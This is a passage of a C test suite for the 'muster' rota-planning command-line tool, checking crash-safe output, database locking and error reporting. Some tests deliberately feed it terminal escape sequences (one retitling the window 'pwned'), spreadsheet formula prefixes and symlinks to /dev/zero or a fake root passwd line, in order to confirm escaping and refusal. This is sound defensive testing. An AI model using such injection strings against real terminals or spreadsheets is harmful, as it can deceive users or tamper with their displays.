	r = tu_run("solve", "lk-sc", "--lp", "--out", "lk", "--db", "lk.db", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	text = tu_slurp(victim);
	assert_string_equal(text, "victim\n");
	free(text);
	assert_int_equal(access(target, F_OK), -1);
	assert_int_equal(lstat(link, &st), 0);
	assert_true(S_ISREG(st.st_mode));
	text = tu_slurp(link);
	assert_true(strncmp(text, "partner,name,", 13) == 0);
	free(text);
	assert_int_equal(lstat(dangling, &st), 0);
	assert_true(S_ISREG(st.st_mode));
	assert_int_equal(count_temporaries("lk"), 0);
}

/* Point 5: killed while writing (SIGXFSZ at a file size limit, as sudden
 * as a crash), muster leaves each output as it was, or absent, or whole:
 * never half of one. */
static void test_cli_a_crash_mid_write_leaves_no_half_file(void **state)
{
	static const char *const names[] = {"plan.csv", "summary.csv", "why.csv", "prices.csv",
	                                    "report.html"};
	const char *full[] = {
	    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "cr-ref", "--db", "cr.db",
	    NULL};
	const char *again[] = {
	    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "cr-ref", "--db", "cr-again.db",
	    NULL};
	const char *fresh[] = {
	    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "cr-new", "--db", "cr-new.db",
	    NULL};
	struct tu_child plain = {0};
	/* plan.csv is about 90 kB, prices.csv 260 kB: the first limit kills
	 * muster inside plan.csv, the second inside prices.csv */
	struct tu_child in_plan = {.file_size_limit = 65536},
	                in_prices = {.file_size_limit = 200000};
	char *ref[5], *out, *err, *now, path[400];
	size_t k;
	int status;
	FILE *fp;
	(void)state;
	status = tu_run_child(&plain, full, &out, &err);
	assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 0);
	free(out);
	free(err);
	for (k = 0; k < 5; k++)
		assert_non_null(ref[k] = file_or_null("cr-ref", names[k]));
	assert_true(strlen(ref[0]) > 65536 && strlen(ref[0]) < 200000);
	assert_true(strlen(ref[3]) > 200000);

	/* over an earlier plan.csv: the earlier one stays */
	tu_path(path, sizeof(path), "cr-ref/plan.csv");
	fp = fopen(path, "wb");
	assert_non_null(fp);
	fputs("the previous plan\n", fp);
	fclose(fp);
	status = tu_run_child(&in_plan, again, &out, &err);
	assert_true(WIFSIGNALED(status) && WTERMSIG(status) == SIGXFSZ);
	free(out);
	free(err);
	now = file_or_null("cr-ref", "plan.csv");
	assert_string_equal(now, "the previous plan\n");
	free(now);

	/* into a new folder: what is there is whole, and prices.csv is not;
	 * the outputs go into --out only once the run is recorded (issue 24,
	 * 9i), so a run killed before its record leaves none there */
	status = tu_run_child(&in_prices, fresh, &out, &err);
	assert_true(WIFSIGNALED(status) && WTERMSIG(status) == SIGXFSZ);
	free(out);
	free(err);
	for (k = 0; k < 5; k++) {
		now = file_or_null("cr-new", names[k]);
		if (now)
			assert_string_equal(now, ref[k]);
		free(now);
	}
	assert_null(now = file_or_null("cr-new", "prices.csv"));
	assert_null(now = file_or_null("cr-new", "plan.csv"));
	for (k = 0; k < 5; k++)
		free(ref[k]);
}

/* Point 5: a write that fails (the disk full, or here past the file size
 * limit: EFBIG) is reported with the file and the reason, exit 1, and
 * leaves neither the file nor a temporary behind. */
static void test_cli_a_failed_write_says_why_and_leaves_nothing(void **state)
{
	const char *args[] = {
	    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "fb", "--db", "fb.db", NULL};
	struct tu_child how = {.file_size_limit = 200000, .is_sigxfsz_ignored = true};
	char *out, *err, *now;
	int status;
	(void)state;
	status = tu_run_child(&how, args, &out, &err);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 1);
	/* written first beside fb, in the folder staged for it (issue 24, 9i) */
	assert_non_null(strstr(err, ".fb.muster-"));
	assert_non_null(strstr(err, "/prices.csv: cannot write: File too large"));
	free(out);
	free(err);
	assert_null(now = file_or_null("fb", "prices.csv"));
	assert_int_equal(count_temporaries("fb"), 0);
	assert_int_equal(count_staged("fb"), 0);
}

/* Point 5 and 6: an --out folder that cannot be made is reported with
 * what mkdir said, before any solving (nothing printed on stdout, no run),
 * by every command that takes --out; exit 1. */
static void test_cli_out_folder_refused_before_the_solve(void **state)
{
	static const char *const cmds[][10] = {
	    {"solve", "SC", "--out", "OUT", "--db", "pf.db", NULL},
	    {"compare", "SC", "--out", "OUT", "--db", "pf.db", NULL},
	    {"sweep", "SC", "--vary", "demand=1:1.2:0.1", "--out", "OUT", "--db", "pf.db", NULL},
	    {"demo", "--out", "OUT", "--db", "pf.db", NULL},
	};
	const char *bad = "/sys/muster-test-out";
	char expected[300], *out, *err;
	struct tu_child plain = {0};
	size_t k, i;
	int status;
	(void)state;
	/* what mkdir itself says here (EPERM as root, EACCES otherwise) */
	if (mkdir(bad, 0777) == 0) {
		rmdir(bad);
		skip();
	}
	snprintf(expected, sizeof(expected), "cannot create the folder %s: %s", bad,
	         strerror(errno));
	for (k = 0; k < sizeof(cmds) / sizeof(cmds[0]); k++) {
		const char *argv[10];
		for (i = 0; cmds[k][i]; i++)
			argv[i] = strcmp(cmds[k][i], "SC") == 0    ? getenv("MUSTER_EXAMPLE_DIR")
			          : strcmp(cmds[k][i], "OUT") == 0 ? bad
			                                           : cmds[k][i];
		argv[i] = NULL;
		status = tu_run_child(&plain, argv, &out, &err);
		assert_true(WIFEXITED(status));
		if (WEXITSTATUS(status) != 1 || !strstr(err, expected) || *out)
			fail_msg("muster %s exited %d, printed '%s' and said '%s'", argv[0],
			         WEXITSTATUS(status), out, err);
		assert_null(strstr(err, "No such file or directory"));
		free(out);
		free(err);
	}
}

/* Point 5: an unwritable parent says "Permission denied" (as mkdir does),
 * not "No such file or directory". Run as nobody when the tests run as
 * root, for whom no folder is unwritable. */
static void test_cli_out_under_an_unwritable_parent_says_permission_denied(void **state)
{
	const char *args[] = {"solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "ro/out",
	                      "--db",  "/tmp/muster-never.db",       NULL};
	struct tu_child how = {.is_nobody = true};
	char path[400], *out, *err;
	int status;
	(void)state;
	tu_path(path, sizeof(path), "ro");
	assert_int_equal(mkdir(path, 0555), 0);
	chmod(tu_dir(), 0755); /* nobody may enter tu_dir() (mkdtemp made it 0700) */
	status = tu_run_child(&how, args, &out, &err);
	chmod(tu_dir(), 0700);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 1);
	assert_non_null(strstr(err, "cannot create the folder ro/out: Permission denied"));
	assert_string_equal(out, "");
	free(out);
	free(err);
}

/* True when text holds a byte a terminal acts on: a C0 control other than
 * newline, or DEL. */
static bool has_terminal_control(const char *text)
{
	const unsigned char *s = (const unsigned char *)text;
	for (; *s; s++)
		if ((*s < 0x20 && *s != '\n') || *s == 0x7F)
			return true;
	return false;
}

/* Point 11: control characters in a folder name and in names reach the
 * terminal written out (\x1B, as error messages write them), never raw:
 * check (ok and with errors), solve, compare, sweep, runs and show. */
static void test_cli_control_characters_are_escaped_on_the_terminal(void **state)
{
	const char *dir = "esc\033[31mdir", *broken = "esc\033[31mbroken";
	const char *const runs[][10] = {
	    {"check", dir, NULL},
	    {"solve", dir, "--lp", "--db", "esc.db", "--out", "esc\033]0;out\007", NULL},
	    {"compare", dir, "--lp", "--db", "esc.db", NULL},
	    {"sweep", dir, "--lp", "--vary", "demand=1:1.1:0.1", "--db", "esc.db", NULL},
	    {"runs", "--db", "esc.db", NULL},
	    {"show", "1", "--db", "esc.db", NULL},
	    {"check", broken, NULL},
	    {"solve", "--x\033[2Jb", NULL},
	    {"so\033[2Jlve", NULL},
	};
	struct tu_child plain = {0};
	char path[400], *out, *err;
	size_t k;
	(void)state;
	write_scenario(dir, formula_scenario);
	snprintf(path, sizeof(path), "%s/partners.csv", dir);
	edit_file(path, "+SUM(1+1)", "Bee\033]0;pwned\007 trust");
	snprintf(path, sizeof(path), "%s/bank.csv", dir);
	edit_file(path, "@SUM(1)", "Eve\033[31mRed\xc2\x9b");
	write_scenario(broken, formula_scenario);
	snprintf(path, sizeof(path), "%s/demand.csv", broken);
	edit_file(path, "-A1,-R1,-S1,5", "-A1,-R1,-S1,x\033[1m");
	for (k = 0; k < sizeof(runs) / sizeof(runs[0]); k++) {
		int status = tu_run_child(&plain, runs[k], &out, &err);
		assert_true(WIFEXITED(status));
		if (has_terminal_control(out) || has_terminal_control(err))
			fail_msg("muster %s printed a control character: '%s' '%s'", runs[k][0],
			         out, err);
		/* the folder is named, written out */
		if (k == 0 || k == 4 || k == 5)
			assert_non_null(strstr(out, "esc\\x1B[31mdir"));
		if (k == 6)
			assert_non_null(strstr(err, "esc\\x1B[31mbroken: 1 error"));
		if (k == 7)
			assert_non_null(strstr(err, "unknown option '--x\\x1B[2Jb'"));
		if (k == 8)
			assert_non_null(strstr(err, "unknown command 'so\\x1B[2Jlve'"));
		free(out);
		free(err);
	}
}

/* The sqlite3 statements sql run on the database at tu_dir()/name. */
static void db_exec(const char *name, const char *sql)
{
	char path[400];
	sqlite3 *db;
	tu_path(path, sizeof(path), name);
	assert_int_equal(sqlite3_open(path, &db), SQLITE_OK);
	assert_int_equal(sqlite3_exec(db, sql, NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(db);
}

/* The issue's case: a negative user_version made solve print "muster: "
 * and exit 0 having recorded nothing. */
static void test_cli_store_failure_is_never_silent(void **state)
{
	struct tu_result r;
	(void)state;
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "n.db", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	db_exec("n.db", "PRAGMA user_version = -1");
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "n.db", NULL);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "n.db: unknown database schema version -1"));
	assert_null(strstr(r.out, "recorded")); /* refused before the solve */
	tu_result_free(&r);
	r = tu_run("runs", "--db", "n.db", NULL);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "schema version -1"));
	tu_result_free(&r);
	/* a newer muster's database: a database problem (1), not bad input */
	db_exec("n.db", "PRAGMA user_version = 99");
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "n.db", NULL);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "newer than this muster's"));
	tu_result_free(&r);
}

/* What can be checked about --db is checked before any solve: every
 * recording command fails at once, printing nothing of a solve. */
static void test_cli_db_is_checked_before_the_solve(void **state)
{
	const char *ex = getenv("MUSTER_EXAMPLE_DIR");
	char path[400];
	struct tu_result r;
	(void)state;
	tu_path(path, sizeof(path), "adir");
	assert_int_equal(mkdir(path, 0755), 0);
	r = tu_run("solve", ex, "--db", "adir", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "adir: is a folder, not a database file"));
	assert_string_equal(r.out, "");
	tu_result_free(&r);
	r = tu_run("compare", ex, "--db", "adir", NULL);
	assert_int_equal(r.status, 2);
	assert_string_equal(r.out, "");
	tu_result_free(&r);
	r = tu_run("sweep", ex, "--lp", "--vary", "demand=1:1.1:0.1", "--db", "adir", NULL);
	assert_int_equal(r.status, 2);
	assert_string_equal(r.out, "");
	tu_result_free(&r);
	r = tu_run("demo", "--db", "no/such/folder/m.db", NULL);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "cannot create the database: no folder 'no/such/folder'"));
	assert_null(strstr(r.out, "Solving"));
	tu_result_free(&r);
}

/* Writing sweep's outputs fails after its runs were recorded (sweep.svg's
 * place is taken by a folder): the message says what is recorded, as the
 * help says. */
static void test_cli_sweep_says_what_was_recorded_when_outputs_fail(void **state)
{
	char path[400];
	struct tu_result r;
	(void)state;
	tu_path(path, sizeof(path), "swfail");
	assert_int_equal(mkdir(path, 0755), 0);
	tu_path(path, sizeof(path), "swfail/sweep.svg");
	assert_int_equal(mkdir(path, 0755), 0);
	tu_path(path, sizeof(path), "swfail/sweep.svg/keep");
	fclose(fopen(path, "w"));
	r = tu_run("sweep", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--vary", "demand=1:1.1:0.1",
	           "--db", "sw.db", "--out", "swfail", NULL);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "sweep 1 (runs 1 to 2) is recorded in sw.db"));
	tu_result_free(&r);
	r = tu_run("runs", "--db", "sw.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "    2  "));
	tu_result_free(&r);
	r = tu_run("sweep", "--help", NULL);
	assert_non_null(strstr(r.out, "the message then says which sweep and runs are recorded"));
	tu_result_free(&r);
}

/* muster with args in dir, as the user nobody when the tests run as
 * root; its exit status. */
static int run_as_nobody(const char *dir, const char *const *args)
{
	char *out, *err;
	int status =
	    tu_run_child(&(struct tu_child){.dir = dir, .is_nobody = true}, args, &out, &err);
	free(out);
	free(err);
	assert_true(WIFEXITED(status));
	return WEXITSTATUS(status);
}

/* runs and show on a database this user cannot write (file 0444, folder
 * 0555; as root, run as nobody, for root writes anything): they work,
 * the file stays byte for byte and no -wal or -shm file is made. A
 * read-only opening writes nothing at all, which is also why they work on
 * a full disk (not tested: no disk here can be filled). */
static void test_cli_runs_and_show_work_on_a_read_only_database(void **state)
{
	const char *runs_args[] = {"runs", "--db", "ro.db", NULL};
	const char *show_args[] = {"show", "1", "--db", "ro.db", NULL};
	char dir[] = "/tmp/muster-test-ro-XXXXXX", db[64], wal[80], shm[80];
	char *before, *after;
	struct stat sb_before, sb_after;
	struct tu_result r;
	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(db, sizeof(db), "%s/ro.db", dir);
	snprintf(wal, sizeof(wal), "%s-wal", db);
	snprintf(shm, sizeof(shm), "%s-shm", db);
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", db, NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	assert_int_not_equal(access(wal, F_OK), 0); /* closed cleanly: all in the file */
	assert_int_equal(chmod(db, 0444), 0);
	assert_int_equal(chmod(dir, 0555), 0);
	before = tu_slurp(db);
	assert_int_equal(stat(db, &sb_before), 0);
	assert_int_equal(run_as_nobody(dir, runs_args), 0);
	assert_int_equal(run_as_nobody(dir, show_args), 0);
	assert_int_equal(stat(db, &sb_after), 0);
	after = tu_slurp(db);
	assert_true(sb_before.st_size == sb_after.st_size &&
	            memcmp(before, after, (size_t)sb_after.st_size) == 0);
	assert_true(sb_before.st_mtime == sb_after.st_mtime);
	assert_int_not_equal(access(wal, F_OK), 0);
	assert_int_not_equal(access(shm, F_OK), 0);
	free(before);
	free(after);
	/* and a solve into it says why it cannot record, before solving */
	{
		const char *solve_args[] = {
		    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "ro.db", NULL};
		assert_int_equal(run_as_nobody(dir, solve_args), 1);
	}
	chmod(dir, 0755);
	unlink(db);
	rmdir(dir);
}

/* Another program's SQLite file is refused (exit 2: --db names the wrong
 * file) by every command, with not a byte changed and no WAL switch. */
static void test_cli_another_programs_database_is_refused(void **state)
{
	const char *names[] = {"notes.db", "runs-table.db"};
	const char *schemas[] = {"CREATE TABLE notes (x); INSERT INTO notes VALUES (1);",
	                         "CREATE TABLE runs (id INTEGER PRIMARY KEY);"};
	size_t i;
	(void)state;
	for (i = 0; i < 2; i++) {
		char path[400], *before, *after;
		struct tu_result r;
		db_exec(names[i], schemas[i]);
		tu_path(path, sizeof(path), names[i]);
		before = tu_slurp(path);
		r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", names[i], NULL);
		assert_int_equal(r.status, 2);
		assert_non_null(strstr(r.err, "not a muster database"));
		tu_result_free(&r);
		r = tu_run("runs", "--db", names[i], NULL);
		assert_int_equal(r.status, 2);
		tu_result_free(&r);
		after = tu_slurp(path);
		assert_string_equal(before,
		                    after);  /* a 4 KB page holds no NUL before the header's end */
		assert_true(after[18] == 1); /* still a rollback journal, not WAL */
		strcat(path, "-wal");
		assert_int_not_equal(access(path, F_OK), 0);
		free(before);
		free(after);
	}
}

/* Ctrl-C while muster waits to write the run (another process holds the
 * write lock): it stops waiting at once, records nothing and says so. */
/* An sqlite3_exec callback for a query that must return no row. */
static int fail_on_row(void *ctx, int n, char **values, char **names)
{
	(void)ctx;
	(void)n;
	(void)values;
	(void)names;
	fail_msg("a row where none should be");
	return 1;
}

static void test_cli_ctrl_c_during_the_database_write(void **state)
{
	char db[400], why[400], out_path[400], err_path[400];
	const char *args[] = {
	    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "cc.db", "--out", "cco", NULL};
	sqlite3 *lock;
	char *err_text;
	int status;
	pid_t pid;
	struct tu_result r;
	(void)state;
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "cc.db", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	tu_path(db, sizeof(db), "cc.db");
	/* the outputs wait for the record in the folder staged beside cco */
	tu_path(why, sizeof(why), "cco/plan.csv");
	tu_path(out_path, sizeof(out_path), "cc.out");
	tu_path(err_path, sizeof(err_path), "cc.err");
	assert_int_equal(sqlite3_open(db, &lock), SQLITE_OK);
	assert_int_equal(sqlite3_exec(lock, "BEGIN IMMEDIATE", NULL, NULL, NULL), SQLITE_OK);
	pid = tu_spawn(&(struct tu_child){0}, args, out_path, err_path);
	/* the outputs are written before the run is recorded: once they are
	 * there and muster sleeps (after its solve it sleeps nowhere but in
	 * the store's busy handler), it is at the write, waiting on the lock;
	 * the clock decides nothing */
	while (count_staged_with("cco", "partners") == 0 || !tu_is_in_nanosleep(pid)) {
		if (tu_has_ended(pid, &status))
			fail_msg("muster ended (wait status %d) before it waited on the lock",
			         status);
		usleep(1000);
	}
	kill(pid, SIGINT);
	assert_int_equal(waitpid(pid, &status, 0), pid);
	sqlite3_exec(lock, "ROLLBACK", NULL, NULL, NULL);
	sqlite3_close(lock);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 1);
	err_text = tu_slurp(err_path);
	assert_non_null(strstr(err_text, "cc.db: interrupted; nothing was recorded"));
	free(err_text);
	/* nothing recorded, so no outputs in --out, and none staged left */
	assert_int_not_equal(access(why, F_OK), 0);
	assert_int_equal(count_staged("cco"), 0);
	assert_int_equal(sqlite3_open(db, &lock), SQLITE_OK);
	assert_int_equal(
	    sqlite3_exec(lock, "SELECT 1 FROM runs WHERE id = 2", fail_on_row, NULL, NULL),
	    SQLITE_OK);
	sqlite3_close(lock);
}

/* A second Ctrl-C quits at once, recording nothing: the first stops the
 * rota search and muster goes on to record the rota, where it waits on a
 * lock another process holds (a first Ctrl-C in rota mode does not stop
 * that wait); the second, sent once it sleeps there, ends it (exit 1, as the help says)
 * and the run is not in the database. What muster has done decides when
 * each is sent, never the clock. */
static void test_cli_second_ctrl_c_records_nothing(void **state)
{
	char db[400], out_path[400], err_path[400];
	const char *args[] = {"solve", getenv("MUSTER_EXAMPLE_DIR"), "--silo", "--db", "c2.db",
	                      NULL};
	sqlite3 *lock;
	int status;
	pid_t pid;
	struct tu_result r;
	(void)state;
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "c2.db", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	tu_path(db, sizeof(db), "c2.db");
	tu_path(out_path, sizeof(out_path), "c2.out");
	tu_path(err_path, sizeof(err_path), "c2.err");
	assert_int_equal(sqlite3_open(db, &lock), SQLITE_OK);
	assert_int_equal(sqlite3_exec(lock, "BEGIN IMMEDIATE", NULL, NULL, NULL), SQLITE_OK);
	pid = interrupt_search(args, out_path, err_path);
	/* after its search it sleeps nowhere but in the store's busy handler */
	for (;;) {
		char *text = tu_slurp(err_path);
		bool is_said = strstr(text, "goes on with the best rota found") != NULL;
		free(text);
		if (is_said && tu_is_in_nanosleep(pid))
			break;
		if (tu_has_ended(pid, &status))
			fail_msg("muster ended (wait status %d) before it waited on the lock",
			         status);
		usleep(1000);
	}
	kill(pid, SIGINT);
	assert_int_equal(waitpid(pid, &status, 0), pid);
	sqlite3_exec(lock, "ROLLBACK", NULL, NULL, NULL);
	sqlite3_close(lock);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 1);
	assert_int_equal(sqlite3_open(db, &lock), SQLITE_OK);
	assert_int_equal(
	    sqlite3_exec(lock, "SELECT 1 FROM runs WHERE id = 2", fail_on_row, NULL, NULL),
	    SQLITE_OK);
	sqlite3_close(lock);
}

/* The guarantee of DESIGN.md §3a on the example: solve under it solves
 * the silo plan first; compare's system plan is the same plan, no partner
 * carries more unfilled penalty than in the silo plan, and the price it
 * says is the cost with the guarantee less the cost without (a plain
 * solve of the example). */
static void test_cli_guarantee_protects_every_partner(void **state)
{
	struct tu_result r;
	char path[400], line[1024];
	double with, without, price, unfilled[2][16] = {{0}};
	const char *at;
	FILE *fp;
	size_t n = 0, p;
	(void)state;
	edited_example("guaranteed", "echo guarantee,unfilled >> settings.csv");
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "gu.db", NULL);
	without = headline_cost(r.out);
	tu_result_free(&r);
	r = tu_run("solve", "guaranteed", "--lp", "--db", "gu.db", NULL);
	with = headline_cost(r.out);
	tu_result_free(&r);
	assert_true(with > without + 1); /* on the example it binds */
	r = tu_run("compare", "guaranteed", "--lp", "--out", "gcmp", "--db", "gu.db", NULL);
	assert_int_equal(r.status, 0);
	tu_path(path, sizeof(path), "gcmp/compare.csv");
	assert_true(fabs(csv_value(path, "SYSTEM,the whole system,total_cost,", 4) - with) < 0.01);
	/* per partner, system and silo unfilled penalty (short + breach) */
	fp = fopen(path, "r");
	assert_non_null(fp);
	while (fgets(line, sizeof(line), fp)) {
		char partner[64] = "", measure[64] = "";
		double sys, silo;
		static char last[64] = "";
		if (sscanf(line, "%63[^,],%*[^,],%63[^,],%lf,%lf", partner, measure, &sys, &silo) !=
		        4 ||
		    strcmp(partner, "SYSTEM") == 0)
			continue;
		if (strcmp(partner, last) != 0) {
			strcpy(last, partner);
			n++;
		}
		assert_true(n <= 16);
		if (strcmp(measure, "short_penalty") == 0 ||
		    strcmp(measure, "breach_penalty") == 0) {
			unfilled[0][n - 1] += sys;
			unfilled[1][n - 1] += silo;
		}
	}
	fclose(fp);
	assert_int_equal(n, 7);
	for (p = 0; p < n; p++)
		assert_true(unfilled[0][p] <= unfilled[1][p] + 0.01);
	/* "raises the objective (spend plus penalty weights) by X": weights, no
	 * pound sign (issue 24); the spend in it keeps its */
	at = strstr(r.out, "raises the objective (spend plus penalty weights) by ");
	assert_non_null(at);
	at += strlen("raises the objective (spend plus penalty weights) by ");
	assert_true(isdigit((unsigned char)*at));
	price = parse_money(at);
	assert_true(fabs(price - (with - without)) <= 0.5);
	assert_non_null(strstr(at, ": spend \xc2\xa3"));
	assert_non_null(strstr(at, ", penalty weights "));
	assert_true(isdigit((unsigned char)strstr(at, ", penalty weights ")[18]));
	assert_non_null(strstr(at, " more in unfilled penalty weights than alone"));
	assert_non_null(strstr(r.out, "It protects "));
	tu_result_free(&r);
	{ /* and the report says it too */
		char *html;
		tu_path(path, sizeof(path), "gcmp/report.html");
		html = tu_slurp(path);
		assert_non_null(strstr(html, "The guarantee (no partner&#39;s unfilled penalty"));
		free(html);
	}
}

/* Issue 28 at the command line: a scenario of two partners whose
 * relaxation is a rota (tests/test_model.c's two_partners_integral, 2,040)
 * under the guarantee. Its system rota, solved after the silo rota its
 * caps come from, made GLPK abort the process (RINS with every integer
 * column fixed); it is optimal, its bound its cost, with the work limit
 * or a time limit, and no limit is named; compare says each search
 * optimal. */
static void test_cli_guaranteed_rota_at_its_bound_says_optimal(void **state)
{
	static const struct {
		const char *name, *text;
	} files[] = {
	    {"partners.csv", "id\na\nb\n"},
	    {"roles.csv", "id\nrn\nb6\nb7\n"},
	    {"shifts.csv", "id,date,start,end,paid_hours\nd1,2026-11-30,08:00,16:00,8\n"
	                   "d2,2026-12-01,08:00,16:00,8\n"},
	    {"staff.csv", "partner,role,shift,available\n"},
	    {"caps.csv", "role,bank_rate\nrn,30\nb6,20\nb7,5\n"},
	    {"substitutions.csv", "role,covers,efficiency\nb6,rn,0.9\nb7,b6,1\n"},
	    {"bank.csv", "id,role,home\nw1,b6,a\nw2,rn,a\nw3,b7,b\n"},
	    {"availability.csv", "worker,shift\nw1,d1\nw2,d1\nw3,d1\nw1,d2\nw3,d2\n"},
	    {"demand.csv", "partner,role,shift,required\na,rn,d1,1.8\nb,b6,d2,1\nb,rn,d2,1\n"},
	    {"settings.csv", "key,value\nguarantee,unfilled\n"},
	};
	const char *const limits[][2] = {{NULL, NULL}, {"--time-limit", "30"}};
	char path[400];
	size_t i, k;
	(void)state;
	tu_path(path, sizeof(path), "tiny-guaranteed");
	assert_int_equal(mkdir(path, 0777), 0);
	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		tu_path(path, sizeof(path), "tiny-guaranteed");
		snprintf(path + strlen(path), sizeof(path) - strlen(path), "/%s", files[i].name);
		tu_write(path, files[i].text, strlen(files[i].text));
	}
	for (k = 0; k < 2; k++) {
		struct tu_result r = tu_run("solve", "tiny-guaranteed", "--db", "tg.db",
		                            limits[k][0], limits[k][1], NULL);
		if (!strstr(r.out, "tiny-guaranteed rota: optimal, objective 2,040.00, bound "
		                   "2,040.00\n"))
			fail_msg("status %d, stdout:\n%s\nstderr:\n%s", r.status, r.out, r.err);
		assert_null(strstr(r.out, "not proven"));
		assert_null(strstr(r.out, "stopped"));
		tu_result_free(&r);
	}
	{
		struct tu_result r = tu_run("compare", "tiny-guaranteed", "--db", "tg.db", NULL);
		const char *at = r.out;
		size_t n_optimal = 0;
		while ((at = strstr(at, "... optimal in ")) != NULL) {
			n_optimal++;
			at++;
		}
		if (n_optimal != 3)
			fail_msg("status %d, stdout:\n%s\nstderr:\n%s", r.status, r.out, r.err);
		assert_null(strstr(r.out, "best found"));
		assert_null(strstr(r.out, "stopped"));
		tu_result_free(&r);
	}
}

/* A .csv name that is not a regular file is said to be one, at that file,
 * and never opened for reading: a FIFO would block, /dev/zero never ends.
 * A file that is no scenario's has its header cut in the message. */
static void test_cli_check_names_what_is_not_a_regular_file(void **state)
{
	static const struct {
		const char *make; /* shell, in the copy's folder */
		const char *expected;
	} cases[] = {
	    {"rm demand.csv && mkdir demand.csv",
	     "demand.csv: not a regular file (a directory): a scenario file is a plain CSV file\n"},
	    {"rm demand.csv && mkfifo demand.csv",
	     "demand.csv: not a regular file (a FIFO): a scenario file is a plain CSV file\n"},
	    {"rm demand.csv && ln -s /dev/zero demand.csv",
	     "demand.csv: not a regular file (a device): a scenario file is a plain CSV file\n"},
	    {"mkfifo extra.csv",
	     "extra.csv: not a regular file (a FIFO): a scenario file is a plain CSV file\n"},
	    {"rm partners.csv && printf 'root:x:0:0:root:/root:/bin/bash\\n' > passwd && "
	     "ln -s passwd partners.csv",
	     "partners.csv:1:1: unknown column 'root:x:0:0:root:/root:/b...'"},
	};
	char cmd[600];
	size_t i;
	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct tu_result r;
		snprintf(cmd, sizeof(cmd),
		         "cd '%s' && rm -rf odd && %s example odd >/dev/null && cd odd && %s",
		         tu_dir(), getenv("MUSTER_BIN"), cases[i].make);
		assert_int_equal(system(cmd), 0);
		r = tu_run("check", "odd", NULL);
		if (r.status != 2 || !strstr(r.err, cases[i].expected) ||
		    strstr(r.err, "missing:") || strstr(r.err, "/bin/bash")) {
			print_error("case %zu: status %d, stderr:\n%s", i, r.status, r.err);
			fail();
		}
		tu_result_free(&r);
	}
}

/* A scenario whose model would need more memory than muster builds
 * (420,000 demand rows: about 2.4 GB in plan mode) is refused before the
 * build, saying what it would need, with exit 2. */
static void test_cli_refuses_a_model_too_large_before_building_it(void **state)
{
	struct mu_buf buf;
	struct tu_result r;
	char dir[400];
	int p, k;
	(void)state;
	snprintf(dir, sizeof(dir), "mkdir '%s/huge'", tu_dir());
	assert_int_equal(system(dir), 0);
	mu_buf_init(&buf);
	mu_buf_adds(&buf, "id\n");
	for (p = 0; p < 1000; p++)
		mu_buf_addf(&buf, "p%d\n", p);
	write_in("huge", "partners.csv", buf.data, buf.len);
	mu_buf_reset(&buf);
	mu_buf_adds(&buf, "id\n");
	for (k = 0; k < 20; k++)
		mu_buf_addf(&buf, "r%d\n", k);
	write_in("huge", "roles.csv", buf.data, buf.len);
	mu_buf_reset(&buf);
	mu_buf_adds(&buf, "id,date,start,end,paid_hours\n");
	for (k = 0; k < 21; k++)
		mu_buf_addf(&buf, "s%d,2026-11-%02d,07:00,15:00,7.5\n", k, 1 + k);
	write_in("huge", "shifts.csv", buf.data, buf.len);
	write_in("huge", "staff.csv", "partner,role,shift,available\n", 29);
	mu_buf_reset(&buf);
	mu_buf_adds(&buf, "partner,role,shift,required\n");
	for (p = 0; p < 1000; p++)
		for (k = 0; k < 20 * 21; k++)
			mu_buf_addf(&buf, "p%d,r%d,s%d,1\n", p, k / 21, k % 21);
	write_in("huge", "demand.csv", buf.data, buf.len);
	mu_buf_release(&buf);
	r = tu_run("solve", "huge", "--lp", "--db", "huge.db", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "too large to solve: 420000 demand rows over 1000 partners, "
	                              "20 roles and 21 shifts make a plan-mode model that needs "
	                              "about 2.4 GB of memory"));
	tu_result_free(&r);
}

/* The value of column col (1-based) on the line of path that starts with
 * prefix, as text (empty when the line or the cell is missing). */
static void csv_cell(const char *path, const char *prefix, int col, char *out, size_t size)
{
	char *text = tu_slurp(path), *line = strstr(text, prefix);
	int k;
